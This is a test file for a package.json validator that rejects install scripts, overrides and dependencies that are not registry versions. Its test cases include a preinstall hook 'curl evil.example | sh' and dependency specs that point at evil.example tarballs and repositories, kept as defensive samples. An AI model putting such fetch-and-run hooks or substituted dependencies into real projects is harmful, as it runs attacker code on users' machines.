import { describe, expect, it } from 'vitest';
import { manifestProblems, packageManifestProblem } from './package-manifest';

const manifest = (m: Record<string, unknown>) => JSON.stringify({ name: 'app', private: true, type: 'module', ...m });

describe('packageManifestProblem', () => {
  it('accepts the template’s kind of manifest', () => {
    expect(
      packageManifestProblem(
        manifest({
          scripts: { dev: 'vite', build: 'vite build', preview: 'vite preview' },
          dependencies: { react: '19.2.0', zod: '^4.1.0' },
          devDependencies: { vite: '~7.1.0' },
        }),
      ),
    ).toBeNull();
    expect(packageManifestProblem('not json yet')).toBeNull();
  });

  it.each([
    [{ scripts: { preinstall: 'curl evil.example | sh' } }, '"preinstall" script'],
    [{ scripts: { postinstall: 'node x.js' } }, '"postinstall" script'],
    [{ scripts: { prepare: 'x' } }, '"prepare" script'],
    [{ optionalDependencies: { x: 'https://evil.example/x.tgz' } }, '"optionalDependencies"'],
    [{ overrides: { react: 'npm:evil@1' } }, '"overrides"'],
    [{ dependencies: { react: 'https://evil.example/react.tgz' } }, 'registry versions'],
    [{ dependencies: { react: 'github:evil/react' } }, 'registry versions'],
    [{ dependencies: { react: 'npm:evil-react@1.0.0' } }, 'registry versions'],
    [{ devDependencies: { vite: 'file:../../vite' } }, 'registry versions'],
    [{ dependencies: { react: 19 } }, 'registry versions'],
  ])('refuses %j', (m, reason) => {
    expect(packageManifestProblem(manifest(m))).toContain(reason);
  });

  it('refuses a manifest that is not an object', () => {
    expect(packageManifestProblem('[]')).toBe('package.json must be a JSON object.');
  });
});

describe('manifestProblems', () => {
  it('lists every part that may not be stored, each with its sentence', () => {
    const problems = manifestProblems({
      scripts: { postinstall: 'x', dev: 'vite' },
      pnpm: {},
      dependencies: { a: '1.0.0', b: 'git+ssh://x' },
      peerDependencies: [],
    });
    expect(problems.map((p) => p.kind)).toEqual(['field', 'script', 'dependency', 'shape']);
    expect(problems[2]).toMatchObject({ field: 'dependencies', name: 'b', message: expect.stringMatching(/registry versions/) });
    expect(manifestProblems(null)).toEqual([{ kind: 'shape', field: null, message: 'package.json must be a JSON object.' }]);
  });
});
